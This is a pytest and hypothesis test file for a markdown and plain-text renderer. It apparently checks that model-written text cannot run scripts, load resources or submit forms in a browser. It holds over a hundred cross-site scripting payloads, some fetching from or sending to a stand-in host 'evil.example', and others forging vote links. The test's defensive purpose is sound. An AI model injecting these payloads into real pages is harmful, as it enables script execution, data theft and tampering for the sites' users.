"""P8: what a model writes cannot run code in a browser, nor make one load, submit or restyle anything."""

import string

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from app.rendering import render_markdown, render_plain
from app.rendering.allowlist import sanitise
from tests.rendering.fragment import assert_safe

PAYLOADS = [
    # elements that run, load or submit
    "<script>fetch('//evil.example')</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div style=position:fixed;inset:0>covered</div>",
    "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1)>",
    "<dialog open><a href=https://evil.example>log in again</a></dialog>",
    "<portal src=https://evil.example>",
    "<custom-element onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>",
    # parsers that disagree with one another
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<table><td><form><table></form><form></table></form><img src=x onerror=alert(1)>",
    "<select><option></select><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "</p></div></article></main><script>alert(1)</script>",
    "<plaintext><xmp><listing>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<a\x0chref='java\x01script:alert(1)'>x</a>",
    "\ufeff<script>alert(1)</script>",
    "\ud83d<script>\udc00alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # links that are not links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<\u200bjavascript:alert(1)>)",
    "[x]( javascript:alert(1) 'title')",
    "[x](javascript://https://example.org/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://example.org/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:https://example.org)",
    "[x](intent://example.org#Intent;scheme=http;end)",
    "[x](//evil.example)",
    "[x](/api/votes?winner=model_a)",
    "[x](?winner=model_a)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "[x](javascript:alert(1)\n)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<a@b.example'onmouseover='alert(1)>",
    # links that try to bring an attribute along
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org/ "\\" onmouseover=alert(1) x=\\"")',
    "[x](<https://example.org/' style='color:red>)",
    "[x](https://example.org){: onclick=alert(1) #id .class}",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '<https://example.org/"><script>alert(1)</script>>',
    # pictures
    "![x](https://evil.example/track.gif?voter=1)",
    '![x" onerror="alert(1)](x)',
    '![x](x "" onerror="alert(1))',
    "![<script>alert(1)</script>](https://evil.example)",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    # code, tables, headings, tasks
    '```"><script>alert(1)</script>\nx\n```',
    "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    '``` x" class="k" onclick="alert(1)\ny\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    '|<script>|\n|:-" onclick=alert(1)|\n|x|',
    "|a|\n|-|\n|<td onclick=alert(1)>|",
    "# <h1 id=location>x</h1> {#cookie}",
    "- [x](javascript:alert(1)) <input type=checkbox onclick=alert(1)>",
    "1<ol start=1 onclick=alert(1)>",
    # maths
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "$$\\mathrm{<script>alert(1)</script>}$$",
    "$\\style{x:expression(alert(1))}{y}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    '\\[\\begin{array}{c" onclick="alert(1)}x\\end{array}\\]',
    "$\\color{red;background:url(https://evil.example)}x$",
    '$\\label{"onclick=alert(1)}$ \\(\\ref{x}\\)',
    '$\\hspace{1em" onclick="alert(1)}$',
    "$<img src=x onerror=alert(1)>$",
    # character references
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0;&#xD800;&#x110000;&NotAnEntity;&#x202e;",
    "&NewLine;&Tab;&lt;svg onload=alert(1)&gt;",
    # other languages' templates and mark-up
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {% raw %}",
    "[[javascript:alert(1)|x]] {{< script >}} ::: div {onclick=alert(1)}",
    "\\<script\\>alert(1)\\</script\\>",
]  # fmt: skip

PLACES = [
    "@@",
    "text @@ text",
    "# @@",
    "> @@",
    "- @@\n- [x] @@",
    "|@@|\n|---|\n|@@|",
    "**@@** ~~@@~~",
    "[@@](https://example.org)",
    "![@@](https://evil.example)",
    "[x](https://example.org '@@')",
    "[x](@@)",
    "[x]: @@\n\n[x]",
    "<@@>",
    "`@@`",
    "```@@\n@@\n```",
    "$\\text{@@}$",
    "$$@@$$",
    "&#@@;",
    "<a href='@@'>",
]


def test_the_list_of_attacks_is_long_and_each_is_different() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_is_shown_and_does_nothing(payload: str) -> None:
    fragment = assert_safe(render_markdown(payload))
    assert fragment.text.strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_would_stop_it_too(payload: str) -> None:
    assert_safe(sanitise(payload.encode("utf-8", "replace").decode()))


@pytest.mark.parametrize("place", PLACES)
def test_attacks_do_nothing_wherever_they_stand(place: str) -> None:
    for payload in PAYLOADS:
        assert_safe(render_markdown(place.replace("@@", payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_in_plain_text_stays_text(payload: str) -> None:
    fragment = assert_safe(render_plain(payload))
    assert [element.tag for element in fragment.elements] == ["pre", "span"]


def test_nothing_that_is_loaded_reaches_the_page() -> None:
    html = "".join(render_markdown(payload) for payload in PAYLOADS)
    for loader in ("<img", "<script", "<svg", "<iframe", "<style", "<link", "<input", "<object", "<video", "<form"):
        assert loader not in html.lower(), loader


FRAGMENTS = [
    *("#", ">", "- ", "1. ", "* ", "+ ", "|", "|-|", "---", "===", "\n", "\n\n", "    ", "\t", "  \n", "- [x] "),
    *("*", "**", "_", "__", "~~", "`", "```", "~~~", "```python\n", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\"),
    *("[", "]", "](", ")", "![", "[a]: ", "<", ">", "<a ", "</", "<!--", "-->", "]]>", "&lt;", "&#x3c;", "&amp;"),
    *("javascript:", "https://example.org", "data:", "//", "mailto:a@b.c", "onerror=", "style=", '"', "'", "="),
    *("\\frac{a}", "\\text{", "}", "{", "^", "\\begin{matrix}", "\\end{matrix}", "\\label{a}", "\\eqref{a}", "&"),
    *("script", "img src=x", "math", "svg", "style", "a", "é", "א", "ع", "\u202e", "\u2066", "\u200d", "👩‍🚀", "\0"),
    *("\ud800", "\udfff", "\ufffe", "\u2028", "\x85", "\x1b[31m", "\r", "\r\n", "\ufeff", "\u0301"),
]
markdownish = st.lists(st.sampled_from(FRAGMENTS) | st.text(string.printable, max_size=3), max_size=40).map("".join)
quick = settings(deadline=None, max_examples=200, suppress_health_check=[HealthCheck.too_slow])


@quick
@given(st.text(max_size=200) | st.text(st.characters(), max_size=50))
@example("\ud800")
def test_any_text_renders_to_safe_well_formed_html(text: str) -> None:
    assert_safe(render_markdown(text))
    assert_safe(render_plain(text))


@quick
@given(markdownish)
def test_anything_like_markdown_renders_to_safe_well_formed_html(text: str) -> None:
    html = render_markdown(text)
    assert_safe(html)
    html.encode()


@quick
@given(markdownish, markdownish)
def test_what_stands_between_two_payloads_of_html_is_text_too(before: str, after: str) -> None:
    assert_safe(render_markdown(f"{before}<img src=x onerror=alert(1)>{after}"))


@quick
@given(st.text(st.characters(exclude_categories=["C"]), max_size=80))
def test_plain_text_is_shown_letter_for_letter(text: str) -> None:
    assert assert_safe(render_plain(text)).text == text


@quick
@given(st.text(string.ascii_letters + string.digits + " ,;?\"'()/%@é漢ا&<>", max_size=80))
def test_prose_without_marks_is_shown_letter_for_letter(text: str) -> None:
    words = " ".join(text.replace("&", "& ").replace("<", "< ").split())
    lead = f"So: {words}"
    assert assert_safe(render_markdown(lead)).text.strip() == lead.strip()
